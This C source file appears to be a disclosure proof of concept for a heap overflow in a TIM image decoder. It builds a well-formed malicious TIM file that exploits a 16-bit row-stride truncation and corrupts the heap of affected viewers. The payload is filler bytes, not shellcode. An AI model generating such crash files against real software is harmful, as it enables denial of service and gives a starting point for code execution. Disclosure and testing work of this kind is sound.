/*
 * poc_tim_overflow.c - proof of concept for HS-2026-0001 (fictional CVE-2026-99001)
 *
 * Heap overflow in the TIM decoder of Lumen Viewer 4.2.0 - 4.7.3 (timcodec).
 * tim_decode_rows() keeps the row stride in 16 bits, (uint16_t)(width * 4),
 * allocates that many bytes for the row buffer and then copies the whole first
 * pixel chunk into it. A width above 0x3fff wraps the stride; a first chunk of at
 * least height * 2 bytes then writes past the heap buffer.
 *
 * This program writes poc.tim, a well-formed TIM file meeting every trigger
 * condition. It is not malicious: chunk bodies are a filler ramp, no shellcode.
 * An affected viewer crashes with a heap-corruption error (Windows: 0xc0000374
 * in timcodec.dll; Linux: "malloc(): corrupted top size" or an ASan report).
 *
 * Build: cc -std=c99 -Wall -O2 -o poc_tim_overflow poc_tim_overflow.c
 * Usage: ./poc_tim_overflow [output.tim] [width] [height]
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define TIM_MAGIC "TIM1"
#define COMMENT_SIZE 16
#define HEADER_SIZE 32
#define CHUNK_OVERHEAD 8

enum chunk_kind {
    CHUNK_RAW = 1,
    CHUNK_RLE = 2,
    CHUNK_PALETTE = 0x10,
    CHUNK_TEXT = 0x20
};

enum trigger_bounds {
    STRIDE_LIMIT = 0x3fff, /* the 16-bit stride wraps above this width */
    MAX_HEIGHT = 0x400,
    OVERFLOW_BYTES = 256
};

static uint32_t crc_table[256];
static int crc_table_ready;

/* Builds the table for the reflected CRC-32 polynomial used by zlib and PNG. */
static void crc32_init(void)
{
    const uint32_t poly = 0xedb88320u;
    for (uint32_t n = 0; n < 256; n++) {
        uint32_t value = n;
        for (int bit = 0; bit < 8; bit++) {
            if (value & 1u)
                value = poly ^ (value >> 1);
            else
                value >>= 1;
        }
        crc_table[n] = value;
    }
    crc_table_ready = 1;
}

/* crc32_update(crc32_update(0, a), b) == crc32 of a followed by b, like zlib. */
static uint32_t crc32_update(uint32_t crc, const uint8_t *data, size_t len)
{
    if (!crc_table_ready)
        crc32_init();
    crc ^= 0xffffffffu;
    for (size_t i = 0; i < len; i++)
        crc = crc_table[(crc ^ data[i]) & 0xff] ^ (crc >> 8);
    return crc ^ 0xffffffffu;
}

static void put_le16(uint8_t *out, uint16_t value)
{
    out[0] = (uint8_t)(value & 0xff);
    out[1] = (uint8_t)(value >> 8);
}

static void put_le32(uint8_t *out, uint32_t value)
{
    for (int shift = 0; shift < 32; shift += 8)
        *out++ = (uint8_t)((value >> shift) & 0xffu);
}

/* One chunk: u2 kind, u2 length, body, u4 CRC-32 over the kind and the body. */
static size_t write_chunk(uint8_t *dst, uint16_t kind, const uint8_t *body, uint16_t length)
{
    uint8_t kind_le[2];
    uint32_t checksum;

    put_le16(kind_le, kind);
    checksum = crc32_update(0, kind_le, sizeof kind_le);
    checksum = crc32_update(checksum, body, length);
    memcpy(dst, kind_le, sizeof kind_le);
    put_le16(dst + 2, length);
    memcpy(dst + 4, body, length);
    put_le32(dst + 4 + length, checksum);
    return (size_t)length + CHUNK_OVERHEAD;
}

/* A harmless ramp of filler bytes, so a crash dump shows how far the copy went. */
static void fill_ramp(uint8_t *buf, size_t count, uint8_t seed)
{
    for (size_t pos = 0; pos < count; pos++)
        buf[pos] = (uint8_t)(seed + pos);
}

/* Magic, u4 width, u4 height, u4 creation time, 16-byte ASCII comment. */
static size_t write_header(uint8_t *dst, uint32_t width, uint32_t height, uint32_t created, const char *comment)
{
    size_t text_len = strlen(comment);

    if (text_len > COMMENT_SIZE)
        text_len = COMMENT_SIZE;
    memcpy(dst, TIM_MAGIC, 4);
    put_le32(dst + 4, width);
    put_le32(dst + 8, height);
    put_le32(dst + 12, created);
    memset(dst + 16, 0, COMMENT_SIZE);
    memcpy(dst + 16, comment, text_len);
    return HEADER_SIZE;
}

/* The row size the vulnerable decoder allocates: width * 4, kept in 16 bits. */
static uint16_t truncated_stride(uint32_t width)
{
    return (uint16_t)(width * 4u);
}

/* Counts the trigger conditions of the advisory that this layout misses. */
static int count_unmet(uint32_t width, uint32_t height, uint16_t first_kind, uint32_t first_length)
{
    int problems = 0;

    if (width <= STRIDE_LIMIT) {
        fprintf(stderr, "width 0x%lx does not exceed 0x%x\n", (unsigned long)width, STRIDE_LIMIT);
        problems++;
    }
    if (height < 1 || height > MAX_HEIGHT) {
        fprintf(stderr, "height %lu is outside 1..%d\n", (unsigned long)height, MAX_HEIGHT);
        problems++;
    }
    if (first_kind != CHUNK_RAW && first_kind != CHUNK_RLE) {
        fprintf(stderr, "the first chunk (kind %u) is not pixel data\n", (unsigned)first_kind);
        problems++;
    }
    if (first_length < height * 2u) {
        fprintf(stderr, "the first chunk holds %lu bytes, fewer than height * 2\n", (unsigned long)first_length);
        problems++;
    }
    return problems;
}

static uint32_t parse_number(const char *text, uint32_t fallback)
{
    char *end = NULL;
    unsigned long value;

    if (text == NULL)
        return fallback;
    value = strtoul(text, &end, 0);
    if (end == text || *end != '\0' || value > 0xffffffffUL) {
        fprintf(stderr, "ignoring %s, using %lu\n", text, (unsigned long)fallback);
        return fallback;
    }
    return (uint32_t)value;
}

int main(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "poc.tim";
    uint32_t width = parse_number(argc > 2 ? argv[2] : NULL, 0x4010);
    uint32_t height = parse_number(argc > 3 ? argv[3] : NULL, 64);
    uint32_t created = (uint32_t)time(NULL);
    static const uint8_t note[] = "lumen-poc";
    uint16_t stride;
    uint32_t length;
    uint8_t *file_buf;
    uint8_t *pixels;
    size_t used;
    FILE *out;

    if (created < 1500000000u || created > 1800000000u)
        created = 1767225600u;
    stride = truncated_stride(width);
    length = height * 2u;
    if (length < (uint32_t)stride + OVERFLOW_BYTES)
        length = (uint32_t)stride + OVERFLOW_BYTES;
    if (length > 0xffff || count_unmet(width, height, CHUNK_RAW, length) != 0) {
        fprintf(stderr, "the file would not trigger the bug\n");
        return 2;
    }

    pixels = malloc(length);
    file_buf = malloc(HEADER_SIZE + 2 * CHUNK_OVERHEAD + length + sizeof note);
    if (pixels == NULL || file_buf == NULL) {
        fprintf(stderr, "out of memory\n");
        free(pixels);
        free(file_buf);
        return 1;
    }
    fill_ramp(pixels, length, 0x41);
    used = write_header(file_buf, width, height, created, "HS-2026-0001");
    used += write_chunk(file_buf + used, CHUNK_RAW, pixels, (uint16_t)length);
    used += write_chunk(file_buf + used, CHUNK_TEXT, note, (uint16_t)(sizeof note - 1));

    out = fopen(path, "wb");
    if (out == NULL || fwrite(file_buf, 1, used, out) != used) {
        perror(path);
        if (out != NULL)
            fclose(out);
        free(pixels);
        free(file_buf);
        return 1;
    }
    fclose(out);
    printf("wrote %s: %lu bytes, width 0x%lx, row buffer %u bytes, first chunk %lu bytes\n",
           path, (unsigned long)used, (unsigned long)width, (unsigned)stride, (unsigned long)length);
    free(pixels);
    free(file_buf);
    return 0;
}
